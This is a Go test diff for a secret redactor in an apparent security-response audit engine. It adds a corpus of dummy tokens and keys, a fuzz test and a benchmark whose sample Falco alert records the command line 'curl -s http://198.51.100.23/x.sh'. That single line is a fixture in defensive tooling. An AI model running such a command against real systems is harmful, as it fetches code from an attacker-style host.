@@ -96,3 +96,99 @@ func TestRedactURLs(t *testing.T) {
 		t.Fatalf("params.url kept a secret: %s", b)
 	}
 }
+
+// slowRedactor is r without its shortcuts: every pattern and the URL
+// rewrite run on every string, as before the shortcuts existed.
+func slowRedactor(r *Redactor) *Redactor {
+	slow := *r
+	slow.exhaustive = true
+	return &slow
+}
+
+// redactCorpus holds strings near and in every default pattern, in both
+// cases, with and without non-ASCII folds of their letters.
+var redactCorpus = []string{
+	"", "plain text", "Bearer abcdefghijkl", "BEARER   abc.def/ghi=", "bearer short",
+	"xoxb-123456789012-abcdef", "xoxp-1234567890", "xapp-1-A0123456789", "XAPP-1-A0123456789",
+	"ghp_abcdefghijklmnopqrstuvwxyz012345", "GHP_abcdefghijklmnopqrstuvwxyz012345", "ghs_0123456789abcdefghij",
+	"key AKIAIOSFODNN7EXAMPLE.", "ASIAIOSFODNN7EXAMPLE", "akiaiosfodnn7example",
+	"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghijkl", "EYJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghijkl",
+	"url?token=abc&x=1", "PassWord=hunter2", "passwd=x", "SECRET=y z", "apikey=k", "API_KEY=k", "api-key=k",
+	"Token=\u212a", "ſecret=x", "to\u212aen=x", "https://hooks.slack.com/services/T000/B000/XXXX", "HOOKS.SLACK.COM/workflows/abc",
+	"https://alice:s3cr3t@hooks.example.com/x?sig=abc", "bearer\u00a0abcdefghijkl", "Beare\u0280 abcdefghijkl",
+	"see https://runbooks.example/cart and http://u@h/", "https://h.example/a#b=c", "https://h.example/a?x=1", "https://plain.example/path",
+}
+
+// TestRedactPrefiltersChangeNothing: the prefilters only skip patterns that
+// cannot match, and the URL rewrite is skipped only on text it would leave
+// as it is, so redacting with the shortcuts gives what running everything
+// gives, for the default patterns and for user ones.
+func TestRedactPrefiltersChangeNothing(t *testing.T) {
+	for _, cfg := range []RedactConfig{{}, {Patterns: []string{`x*`, `ACME-\d{6}`}}} {
+		r, err := NewRedactor(cfg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		slow := slowRedactor(r)
+		filtered := 0
+		for _, s := range redactCorpus {
+			for _, p := range r.patterns {
+				if p.re.MatchString(s) && !p.need.mayMatch(s, isASCII(s)) {
+					t.Errorf("pattern %s matches %q but its prefilter says it cannot", p.re, s)
+				}
+				if !p.need.mayMatch(s, isASCII(s)) {
+					filtered++
+				}
+			}
+			if got, want := r.String(s), slow.String(s); got != want {
+				t.Errorf("String(%q) = %q, without prefilters %q", s, got, want)
+			}
+		}
+		if filtered == 0 {
+			t.Errorf("no prefilter skipped anything over the corpus")
+		}
+	}
+}
+
+// FuzzRedactPrefilters checks the same on any input.
+func FuzzRedactPrefilters(f *testing.F) {
+	for _, s := range redactCorpus {
+		f.Add(s)
+	}
+	r, err := NewRedactor(RedactConfig{})
+	if err != nil {
+		f.Fatal(err)
+	}
+	slow := slowRedactor(r)
+	f.Fuzz(func(t *testing.T, s string) {
+		if got, want := r.String(s), slow.String(s); got != want {
+			t.Fatalf("String(%q) = %q, without prefilters %q", s, got, want)
+		}
+	})
+}
+
+// BenchmarkRedactRecord redacts records shaped like the engine's per
+// event: received (labels), matched (rule, saw) and a step's dry run
+// (params with a URL and a body, a summary).
+//
+//	go test -run '^$' -bench BenchmarkRedactRecord ./engine/audit/
+func BenchmarkRedactRecord(b *testing.B) {
+	r, err := NewRedactor(RedactConfig{})
+	if err != nil {
+		b.Fatal(err)
+	}
+	recs := []Record{
+		{Kind: KindReceived, EventID: "falco:3f1c6b0e-8a2d-4b7e-9c1a-5d2e7f9a0b14", Message: "Unexpected outbound connection destination firing (warning)",
+			Data: map[string]any{"labels": map[string]string{"k8s.ns.name": "shop", "k8s.pod.name": "cart-api-6d8f9c7b5-x2lkq", "proc.cmdline": "curl -s http://198.51.100.23/x.sh", "user.name": "root"}}},
+		{Kind: KindMatched, Playbook: "contain", Outcome: "matched", Data: map[string]any{"rule": `event.source == "falco" && event.labels["k8s.ns.name"] != "kube-system"`, "mode": "shadow",
+			"saw": map[string]any{"event.source": "falco", `event.labels["k8s.ns.name"]`: "shop"}}},
+		{Kind: KindStepDryRun, Playbook: "contain", Action: "webhook.notify", Target: "https://hooks.example.com/fire", Message: "would run (mode: shadow): POST https://hooks.example.com/fire",
+			Data: map[string]any{"params": map[string]any{"url": "https://hooks.example.com/fire", "body": map[string]any{"alert": "Unexpected outbound connection destination", "namespace": "shop"}}}},
+	}
+	b.ReportAllocs()
+	for b.Loop() {
+		for _, rec := range recs {
+			_ = r.Record(rec)
+		}
+	}
+}
